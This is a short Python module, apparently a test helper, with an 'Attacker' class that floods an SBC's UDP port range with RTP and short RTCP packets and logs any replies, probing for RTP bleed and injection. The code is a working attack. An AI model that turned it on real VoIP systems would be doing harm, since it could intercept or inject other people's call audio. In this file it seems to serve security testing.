"""Who sprays the port range of the SBC with RTP and short RTCP, and looks at what comes back (RTP bleed and inject)."""

import socket
import struct
import threading
from collections.abc import Sequence
from typing import Self

_RTP = struct.Struct("!BBHII")
_SSRC = 0xBAD0BAD0
_PAYLOAD = bytes(160)
_SHORT_RTCP = bytes([0x80, 201, 0, 1]) + _SSRC.to_bytes(4)
_PAUSE_SECONDS = 0.03


class Attacker:
    """`with Attacker(sockets, hosts, range(20000, 20200)):` sprays until it is left.

    `sockets` are made by whoever knows where they belong. Packets of one socket to one port are consecutive ones of one
    synchronization source, so that they look like a stream.
    """

    def __init__(self, sockets: Sequence[socket.socket], hosts: Sequence[str], ports: range) -> None:
        self._sockets = sockets
        self._targets = [(host, port) for host in hosts for port in ports]
        self._is_over = threading.Event()
        self._thread = threading.Thread(target=self._run, name="attacker", daemon=True)
        self.sent = 0
        self.got: list[str] = []  # whatever came to one of its sockets

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._is_over.set()
        self._thread.join(10)
        self._listen()
        for one in self._sockets:
            one.close()

    def _run(self) -> None:
        sequence = 0
        while not self._is_over.wait(_PAUSE_SECONDS):
            rtp = _RTP.pack(0x80, 0, sequence & 0xFFFF, sequence * 160, _SSRC) + _PAYLOAD
            for one in self._sockets:
                for target in self._targets:
                    one.sendto(_SHORT_RTCP if target[1] % 2 else rtp, target)
                    self.sent += 1
            self._listen()
            sequence += 1

    def _listen(self) -> None:
        for one in self._sockets:
            while True:
                try:
                    data, source = one.recvfrom(2048)
                except BlockingIOError:
                    break
                self.got.append(f"{data[:12].hex()} from {source} at {one.getsockname()}")


def attacking_socket(host: str, port: int) -> socket.socket:
    """It hears no ICMP errors: ports that are closed refuse."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.setblocking(False)
    one.bind((host, port))
    return one
